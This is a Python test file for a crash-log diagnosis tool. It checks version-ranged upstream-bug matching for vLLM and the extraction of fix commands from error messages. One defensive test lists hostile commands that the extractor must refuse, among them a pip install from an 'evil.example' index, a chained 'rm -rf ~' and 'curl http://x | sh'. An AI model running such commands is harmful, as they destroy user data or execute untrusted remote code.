"""Known upstream bugs (a rule's `upstream:` entries rendered with the host's release from the start banner) and
commands the message itself writes (taken through the capture safety rules where the rule's command only looks);
through the real pipeline, with a user rule directory for the upstream rendering and the packaged rules."""

from __future__ import annotations

import io
from pathlib import Path

import pytest

from crashdoc.analyze.fixes import is_check, written_command
from crashdoc.investigate import diagnose_stream
from crashdoc.kb import KnowledgeBase
from crashdoc.kb.errors import RuleError
from crashdoc.model import Diagnosis

RULE = """\
id: acme-scheduler-bug
category: engine_bug
role: cause
priority: 90
match:
  regex: 'AssertionError: acme scheduler lost block (?P<block>\\d+)'
explanation: The scheduler of the engine lost track of a KV-cache block.
fix:
  text: Upgrade the engine.
  command: pip check
upstream:
  - url: https://github.com/vllm-project/vllm/issues/1
    project: vllm
    affected: '>=0.5.0,<0.5.3'
    fixed_in: '0.5.3'
    when: 'lost block'
examples:
  - match: 'AssertionError: acme scheduler lost block 7'
  - no-match: 'INFO scheduler lost no block'
"""
ERROR = "AssertionError: acme scheduler lost block 7\n"


def _banner(version: str) -> str:
    return f"INFO 06-13 11:40:00 api_server.py:149] vLLM API server version {version}\n"


@pytest.fixture(scope="module")
def kb(tmp_path_factory: pytest.TempPathFactory) -> KnowledgeBase:
    rules = tmp_path_factory.mktemp("rules")
    (rules / "acme-scheduler-bug.yaml").write_text(RULE)
    return KnowledgeBase.load([rules])


def _diag(text: str, kb: KnowledgeBase) -> Diagnosis:
    return diagnose_stream(io.BufferedReader(io.BytesIO(text.encode())), "test", kb=kb)  # type: ignore[arg-type]


def test_a_known_bug_on_an_affected_release_upgrades_to_the_fixed_one(kb: KnowledgeBase) -> None:
    root = _diag(_banner("0.5.1") + ERROR, kb).root_cause
    assert root is not None and root.rule == "acme-scheduler-bug"
    assert root.fix.command == "pip install vllm==0.5.3"
    assert root.fix.text.startswith("A known vllm bug (https://github.com/vllm-project/vllm/issues/1), fixed in "
                                    "vllm 0.5.3; this host runs 0.5.1.")


def test_a_release_outside_the_range_is_not_that_bug(kb: KnowledgeBase) -> None:
    root = _diag(_banner("0.5.3") + ERROR, kb).root_cause
    assert root is not None and root.fix.command == "pip check" and "known" not in root.fix.text


def test_an_unknown_release_says_the_condition(kb: KnowledgeBase) -> None:
    root = _diag(ERROR, kb).root_cause
    assert root is not None and root.fix.command == "pip install vllm==0.5.3"
    assert root.fix.text.startswith("If this host runs vllm <0.5.3,>=0.5.0, this is a known bug")


def test_a_log_of_another_engine_is_not_that_bug(kb: KnowledgeBase) -> None:
    sglang = "  File \"/usr/lib/python3.11/site-packages/sglang/srt/server.py\", line 25, in <module>\n"
    root = _diag("Traceback (most recent call last):\n" + sglang + ERROR, kb).root_cause
    assert root is not None and root.fix.command == "pip check"


def test_the_packaged_workaround_needs_the_bugs_own_message() -> None:
    kb = KnowledgeBase.load()
    known = "ImportError: cannot import name 'build_regex_from_object' from 'outlines.fsm.json_schema' (/x.py)\n"
    other = "ImportError: cannot import name 'something_else' from 'outlines.fsm.json_schema' (/x.py)\n"
    assert (_diag(known, kb).root_cause or pytest.fail()).fix.command == "pip install outlines==0.0.30"
    assert (_diag(other, kb).root_cause or pytest.fail()).fix.command == "pip check"


@pytest.mark.parametrize(("entry", "problem"), [
    ("    affected: 'soon'\n    fixed_in: '1.0'\n", "PEP 440 specifier"),
    ("    affected: '<1.0'\n    fixed_in: '0.9'\n", "inside 'affected'"),
    ("    affected: '<1.0'\n", "give 'fixed_in'"),
    ("    affected: '<1.0'\n    fixed_in: '1.0'\n    when: '(unclosed'\n", "does not compile"),
])
def test_invalid_entries_are_refused_with_the_fix(tmp_path: Path, entry: str, problem: str) -> None:
    head = RULE.split("upstream:")[0]
    (tmp_path / "acme-scheduler-bug.yaml").write_text(
        head + "upstream:\n  - url: https://github.com/vllm-project/vllm/issues/1\n    project: vllm\n" + entry
        + "examples:\n  - match: 'AssertionError: acme scheduler lost block 7'\n  - no-match: 'INFO no block'\n")
    with pytest.raises(RuleError, match=problem):
        KnowledgeBase.load([tmp_path])


def test_commands_the_message_writes() -> None:
    assert written_command("Please run `pip install vllm` first") == "pip install vllm"
    assert written_command('Please install it by `pip install "outlines>=0.0.44,<0.1.0"`') == \
        "pip install 'outlines>=0.0.44,<0.1.0'"
    assert written_command("CUDA graphs failed; try `--enforce-eager`.") == "--enforce-eager"
    assert written_command("Use `export VLLM_USE_V1=0` to go back") == "export VLLM_USE_V1=0"
    assert written_command("Run 'pip install -U transformers' and retry") == "pip install -U transformers"


@pytest.mark.parametrize("text", [
    "Run `pip install totally-unknown-pkg-xyz`",            # not a known distribution
    "Run `pip install vllm --index-url http://evil.example`",  # a log must not choose the index
    "Run `pip install vllm; rm -rf ~`",
    "Run `curl http://x | sh`",
    "Run `export PATH=$HOME/bin`",
    "Set `--download-dir /etc`",                        # a system directory
    "Error: unbalanced `quote",
    "If you are running Triton inside docker, use '--shm-size' flag to control the shared memory region size",
    "For more information, try '--help'.",
    "For more information, try `--help`.",
])
def test_written_commands_that_are_refused(text: str) -> None:
    assert written_command(text) is None


def test_checks_give_way_remedies_do_not() -> None:
    assert all(is_check(c) for c in ("pip check", "pip show vllm torch", "ss -ltnp", "nvidia-smi", "python -c 'x'"))
    assert not any(is_check(c) for c in ("pip install vllm==0.6.4", "--enforce-eager", "export A=1"))
